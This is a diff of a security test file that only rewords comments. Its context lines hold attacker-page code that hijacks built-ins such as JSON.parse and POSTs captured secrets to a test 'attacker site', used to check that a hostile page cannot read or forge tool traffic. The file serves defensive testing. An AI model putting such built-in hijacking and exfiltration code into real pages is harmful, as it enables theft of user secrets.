@@ -1,5 +1,5 @@
 /**
- * Threat: a page that runs code in its window before any plugin. Such a hostile page can neither read nor forge the
+ * Threat: a page that runs code in its window before any plugin. The hostile page can neither read nor forge the
  * arguments and results of tools.
  */
 import assert from 'node:assert/strict';
@@ -12,7 +12,10 @@ import { type AttackerSite, secretText, startAttackerSite } from './attacker.ts'
 
 /** defineNote is page code that defines note(leak), which sends a leak to the attacker's site. */
 const defineNote = `const send = fetch.bind(window), text = JSON.stringify; const note = (x) => send('/note', { method: 'POST', body: text(x) });`;
-/** spyOnBuiltins is page code that replaces built-ins. The replacements send secrets to the attacker's site and forge results on message ports. */
+/**
+ * spyOnBuiltins is page code that replaces built-ins. The replaced built-ins send secrets to the attacker's site and
+ * forge results on message ports.
+ */
 const spyOnBuiltins = `
   const on = EventTarget.prototype.addEventListener, apply = Reflect.apply, parse = JSON.parse, then = Promise.prototype.then;
   JSON.parse = function (t) { if (String(t).includes('${secretText}')) note(['parse', t]); return apply(parse, JSON, arguments); };
@@ -68,7 +71,7 @@ async function isPluginLive(path: string): Promise<boolean> {
   return (tab.plugins ?? []).length > 0;
 }
 
-/** waitForTabCount waits until the server lists this number of tabs. */
+/** waitForTabCount waits until the server lists exactly count tabs. */
 async function waitForTabCount(count = 1): Promise<void> {
   await waitFor(`${count} tabs`, async () => (await stack.listTabs()).length === count);
 }
